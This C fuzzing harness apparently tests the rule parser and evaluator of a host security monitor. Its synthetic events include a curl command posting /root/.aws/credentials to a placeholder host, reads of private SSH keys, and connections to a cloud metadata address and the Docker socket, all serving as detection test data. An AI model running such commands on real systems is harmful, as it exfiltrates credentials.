// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * libFuzzer target: one rule condition, bytes as they are (NUL bytes
 * included). cond__parse must return a tree no deeper than
 * COND_MAX_DEPTH, or NULL with a message and an offset inside the text.
 * A tree is evaluated against a fixed set of events (every record kind,
 * '~' paths for root and for a user without a home, a profile, taints)
 * and walked, then freed. The environment offers lists (one empty, one
 * long enough for a hashed set) and macros (one that fails).
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "cond.h"
#include "profile.h"
#include "../unit/evtest.h"

int LLVMFuzzerInitialize(int *argc, char ***argv);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))
#define NR_EVENTS 12

#define CHECK(cond)							\
	do {								\
		if (!(cond)) {						\
			fprintf(stderr, "fuzz_cond: %s:%d: %s\n",	\
				__FILE__, __LINE__, #cond);		\
			abort();					\
		}							\
	} while (0)

static const char *const shells[] = { "sh", "bash", "dash", "zsh", "ksh",
				      "fish", "busybox", "mksh", "~/bin/sh" };
static const char *const ports[] = { "22", "80", "443" };
static const char *const nets[] = { "10.0.0.0/8", "::1", "169.254.169.254" };
static const char *const none[1];
static const char *const taint_names[] = { "secrets-read", "net" };
/* bit 1 has no name: a file set the rules no longer define */
static const char *const fileset_names[VIGIL_MAX_FILESETS] = {
	"keys", NULL, "shadow",
};

static struct cond *macros[2];
static struct tev events[NR_EVENTS];
static struct dest dests[2];
static char *exes[] = { (char *)"/usr/bin/*" };
static struct profile profile = {
	.name = (char *)"agent", .dests = dests, .nr_dests = 2,
	.exes = exes, .nr_exes = 1,
};

static const struct cond *env_macro(void *ctx, const char *name, size_t len,
				    struct cond_err *err)
{
	if (bytes__is(name, len, "is_root"))
		return macros[0];
	if (bytes__is(name, len, "secret"))
		return macros[1];
	if (bytes__is(name, len, "broken"))
		snprintf(err->msg, sizeof(err->msg),
			 "macro 'broken' is invalid");
	return NULL;
}

static const char *const *env_list(void *ctx, const char *name, size_t len,
				   size_t *n)
{
	static const struct {
		const char *name;
		const char *const *items;
		size_t n;
	} lists[] = {
		{ "shells", shells, ARRAY_SIZE(shells) },
		{ "ports", ports, ARRAY_SIZE(ports) },
		{ "nets", nets, ARRAY_SIZE(nets) },
		{ "empty", none, 0 },
	};

	for (size_t i = 0; i < ARRAY_SIZE(lists); i++)
		if (bytes__is(name, len, lists[i].name)) {
			*n = lists[i].n;
			return lists[i].items;
		}
	return NULL;
}

static bool env_fileset(void *ctx, const char *name, size_t len)
{
	return bytes__is(name, len, "keys") || bytes__is(name, len, "shadow");
}

static const struct cond_env env = { .macro = env_macro, .list = env_list,
				     .fileset = env_fileset };

static void events__make(void)
{
	struct tev *t = events;

	tev__exec(t, 1, "/usr/bin/curl",
		  "curl|-s|http://x|-d|@/root/.aws/credentials");
	t->ev.exec.filesets = 7;
	t->ev.exec.stdio[0] = VIGIL_FD_INET;
	t++->ev.exec.stdio[2] = 0xff;	/* a type this build does not know */
	tev__open(t, 2, "/root/.ssh/id_rsa", 01101);
	t->ev.open.filesets = ~0ull;
	t++->hdr.flags = VIGIL_F_KILLED;
	tev__open(t, 3, "/home/u/.ssh/id_rsa", 0);
	t->ev.open.filesets = 1;
	t->ev.fileset_names = NULL;	/* names unknown: no file sets */
	t++->hdr.uid = 3999999;		/* no passwd entry: no home */
	tev__connect(t++, 4, "169.254.169.254", 80);
	tev__connect(t++, 5, "::ffff:10.1.2.3", 443);
	tev__connect(t++, 6, "/run/docker.sock", 0);
	tev__flow(t++, 7, "2001:db8::1", 443, 5000);
	tev__init(t, EVENT_FORK, 8);
	t++->ev.child_pid = 101;
	tev__init(t, EVENT_EXIT, 9);
	t++->ev.exit_code = 3 << 8;
	tev__exec(t++, 10, "", "./missing");
	tev__open(t, 11, "/root", 0);
	t->proc.exe = NULL;
	t++->parent.exe = NULL;
	tev__budget(t++, 12, "203.0.113.9", 443, 10 << 20, 10 << 20);
	for (int i = 0; i < NR_EVENTS; i++)
		if (i != 2)
			events[i].ev.fileset_names = fileset_names;
}

int LLVMFuzzerInitialize(int *argc, char ***argv)
{
	static const char *const texts[] = {
		"proc.uid == 0",
		"open.path glob \"~/.ssh/id_*\" and "
		"not open.path endswith .pub",
	};
	struct cond_err err;

	for (size_t i = 0; i < ARRAY_SIZE(macros); i++) {
		macros[i] = cond__parse(texts[i], strlen(texts[i]), &env, &err);
		CHECK(macros[i]);
	}
	CHECK(dest__parse("10.0.0.0/8:443", &dests[0]) == 0);
	CHECK(dest__parse("[::1]:1-1024", &dests[1]) == 0);
	events__make();
	return 0;
}

static int count_cmp(const struct cond *c, void *arg)
{
	CHECK(c->kind == C_CMP && c->cmp.field);
	CHECK(c->cmp.op == OP_TRUE || c->cmp.nr_lits > 0);
	(*(size_t *)arg)++;
	return 0;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	char scratch[VIGIL_PATH_MAX + 2];
	struct cond_err err;
	struct cond *c = cond__parse((const char *)data, size, &env, &err);
	size_t tests = 0;

	if (!c) {
		CHECK(err.msg[0] && memchr(err.msg, '\0', sizeof(err.msg)));
		CHECK(err.offset <= size);
		return 0;
	}
	CHECK(c->depth >= 1 && c->depth <= COND_MAX_DEPTH);
	cond__walk(c, count_cmp, &tests);
	CHECK(tests > 0);
	for (int i = 0; i < NR_EVENTS; i++) {
		struct eval e = {
			.f = { .ev = &events[i].ev, .taint_names = taint_names,
			       .profile = i % 2 ? &profile : NULL,
			       .taints = i % 3 },
			.scratch = scratch,
		};

		cond__eval(c, &e);
	}
	cond__free(c);
	return 0;
}
